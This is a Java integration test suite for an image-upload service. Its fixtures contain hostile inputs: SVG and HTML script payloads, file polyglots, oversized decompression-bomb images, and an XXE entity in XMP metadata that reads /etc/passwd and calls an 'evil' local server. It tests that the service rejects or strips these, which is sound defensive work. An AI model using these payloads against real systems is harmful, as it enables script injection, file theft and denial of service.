package dev.hwasil.bootstrap.journey;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import dev.hwasil.application.hostile.Tally;
import dev.hwasil.imaging.HostilePictures;
import dev.hwasil.imaging.Pictures;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Pictures that lie, hide something or never end, through the whole product. */
@DisplayName("hostile input, group F: pictures")
@ExtendWith(Tally.class)
@TestInstance(Lifecycle.PER_CLASS)
final class HostilePicturesIT {

    /** Enough for a machine that does other things too; how soon a header alone is refused is measured at its probe. */
    private static final Duration SOON = Duration.ofSeconds(2);

    private static final String PLACE = "37.5665 N, 126.9780 E";

    private Path folder;
    private Workplace at;

    @BeforeAll
    void open(@TempDir Path data) {
        folder = data;
        at = Workplace.open(data, Map.of());
    }

    @AfterAll
    void close() {
        at.close();
    }

    /** All files of pictures, those that are just arriving too. */
    private Set<Path> files() {
        try (var all = Files.walk(folder.resolve("uploads"))) {
            return all.filter(Files::isRegularFile).collect(Collectors.toSet());
        } catch (IOException lost) {
            throw new UncheckedIOException(lost);
        }
    }

    static List<Arguments> refused() {
        return List.of(
                argumentSet(
                        "F14 SVG",
                        415,
                        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
                                .getBytes(UTF_8)),
                argumentSet("F15 GIF", 415, gif()),
                argumentSet("F15 BMP", 415, "BM\72\0\0\0\0\0\0\0\66\0\0\0(\0\0\0".getBytes(ISO_8859_1)),
                argumentSet("F16 HEIC", 415, "\0\0\0\u0018ftypheic\0\0\0\0mif1heic".getBytes(ISO_8859_1)),
                argumentSet("F17 PDF", 415, "%PDF-1.7\n1 0 obj".getBytes(UTF_8)),
                argumentSet("F18 HTML", 415, "<!doctype html><script>alert(1)</script>".getBytes(UTF_8)),
                argumentSet(
                        "F19 GIFAR",
                        415,
                        HostilePictures.followedBy(gif(), HostilePictures.zip("A.class", new byte[100]))),
                argumentSet("F22 a PNG of 30,000 by 30,000", 422, HostilePictures.png(30_000, 30_000)),
                argumentSet("F23 a JPEG of 65,535 by 65,535", 422, HostilePictures.jpeg(65_535, 65_535)),
                argumentSet("F24 a WebP of 16,383 by 16,383", 422, HostilePictures.webp(16_383, 16_383)),
                argumentSet("F22 a PSD of 30,000 by 30,000", 422, HostilePictures.psd(30_000, 30_000)),
                argumentSet("F22 a TIFF of 100,000 by 100,000", 422, HostilePictures.tiff(100_000, 100_000)),
                argumentSet("F25 a PNG without width", 422, HostilePictures.png(0, 10)),
                argumentSet("F25 a JPEG without height", 422, HostilePictures.jpeg(10, 0)),
                argumentSet("F27 a truncated JPEG", 422, HostilePictures.truncated()),
                argumentSet("F27 a truncated PSD", 422, half(Pictures.psd(60, 40))),
                argumentSet("F27 a truncated TIFF", 422, half(Pictures.tiff(60, 40))),
                argumentSet("F28 a PNG of a wrong checksum", 422, HostilePictures.wrongChecksum()),
                argumentSet("F29 a JPEG of wrong codes", 422, HostilePictures.wrongCodes()),
                argumentSet("F30 a JPEG of 3,000 scans", 422, HostilePictures.scans(3_000)));
    }

    private static byte[] half(byte[] whole) {
        return Arrays.copyOf(whole, whole.length / 2);
    }

    private static byte[] gif() {
        return "GIF89a\1\0\1\0\u0080\0\0\0\0\0\u00ff\u00ff\u00ff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;".getBytes(ISO_8859_1);
    }

    @ParameterizedTest
    @MethodSource
    void refused(int status, byte[] picture) {
        var seen = at.seen();
        var files = files();

        // That the machine did something else just then says nothing of the picture, where it is no longer so.
        assertThat(Stream.generate(() -> refusal(status, picture)).limit(3).anyMatch(time -> time.compareTo(SOON) < 0))
                .as("refused within " + SOON)
                .isTrue();
        assertThat(at.seen()).isEqualTo(seen);
        Waiting.until(() -> files().equals(files));
    }

    private Duration refusal(int status, byte[] picture) {
        var start = System.nanoTime();
        at.upload(at.scene(), picture).isProblem(status, status == 415 ? "unsupported-media-type" : "invalid-image");
        return Duration.ofNanos(System.nanoTime() - start);
    }

    static List<Arguments> carriers() {
        var script = "<html><script>alert(1)</script>".getBytes(UTF_8);
        return List.of(
                argumentSet(
                        "F19 PNG and ZIP",
                        HostilePictures.followedBy(
                                Pictures.painting(60, 40), HostilePictures.zip("hidden.txt", new byte[10])),
                        "hidden.txt",
                        "image/png"),
                argumentSet(
                        "F19 PNG and JAR",
                        HostilePictures.followedBy(
                                Pictures.painting(60, 40), HostilePictures.zip("Hidden.class", new byte[10])),
                        "Hidden.class",
                        "image/png"),
                argumentSet(
                        "F19 JPEG and HTML",
                        HostilePictures.followedBy(Pictures.photo(60, 40), script),
                        "script",
                        "image/jpeg"),
                argumentSet(
                        "F19 WebP and HTML",
                        HostilePictures.followedBy(Pictures.webp(60, 40), script),
                        "script",
                        "image/webp"),
                argumentSet(
                        "F19 PSD and HTML",
                        HostilePictures.followedBy(Pictures.psd(60, 40), script),
                        "script",
                        "image/vnd.adobe.photoshop"),
                argumentSet(
                        "F19 TIFF and HTML",
                        HostilePictures.followedBy(Pictures.tiff(60, 40), script),
                        "script",
                        "image/tiff"),
                argumentSet(
                        "F20 EXIF with a place",
                        HostilePictures.takenAt(Pictures.photo(60, 40), PLACE),
                        PLACE,
                        "image/jpeg"));
    }

    @ParameterizedTest
    @MethodSource("carriers")
    void what_is_hidden_stays_in_the_original(byte[] picture, String hidden, String mediaType) {
        assertThat(new String(picture, ISO_8859_1)).contains(hidden);
        assertCarriedNoFurther(picture, hidden, mediaType);
    }

    private void assertCarriedNoFurther(byte[] picture, String hidden, String mediaType) {
        var image = at.upload(at.scene(), picture).is(201);

        var original = at.stranger().get(image.text("/originalUrl")).is(200);
        assertThat(original.body()).isEqualTo(picture);
        assertThat(original.header("Content-Type")).isEqualTo(mediaType);
        assertThat(original.header("X-Content-Type-Options")).isEqualTo("nosniff");
        for (var url : List.of("/url", "/thumbnailUrl")) {
            var rendition = at.stranger().get(image.text(url)).is(200);
            assertThat(rendition.header("Content-Type")).isEqualTo("image/webp");
            assertThat(new String(rendition.body(), ISO_8859_1)).doesNotContain(hidden, "EXIF", "XMP ", "PK\3\4");
        }
    }

    @Test
    @DisplayName("F21 XMP that reads a file and calls a server is not parsed")
    void xml_is_not_parsed() throws IOException {
        try (var evil = ServerSocketChannel.open()) {
            evil.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))
                    .configureBlocking(false);
            var port = ((InetSocketAddress) evil.getLocalAddress()).getPort();
            var xml = ("<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/passwd'>"
                            + "<!ENTITY %% e SYSTEM 'http://127.0.0.1:%d/evil'>%%e;]><a>&f;</a>")
                    .formatted(port);

            assertCarriedNoFurther(HostilePictures.xmpOfJpeg(Pictures.photo(60, 40), xml), "ENTITY", "image/jpeg");
            assertCarriedNoFurther(HostilePictures.xmpOfPng(Pictures.painting(60, 40), xml), "ENTITY", "image/png");

            assertThat(evil.accept()).isNull();
        }
    }

    static List<Arguments> extremes() {
        return List.of(
                argumentSet("F26 one pixel", HostilePictures.plain(1, 1), "1x1"),
                argumentSet("F26 a thread of 100,000", HostilePictures.plain(100_000, 1), "1920x1"),
                argumentSet("F31 a WebP of 10,000 frames", HostilePictures.movingWebp(10_000), "16x16"),
                argumentSet("F31 a PNG of 10,000 frames", HostilePictures.movingPng(10_000), "16x16"));
    }

    @ParameterizedTest
    @MethodSource("extremes")
    void what_is_odd_but_whole_is_shown(byte[] picture, String size) {
        var image = at.upload(at.scene(), picture).is(201);

        var rendition = at.stranger().get(image.text("/url")).is(200).body();

        assertThat(Pictures.sizeOfWebp(rendition)).isEqualTo(size);
    }
}
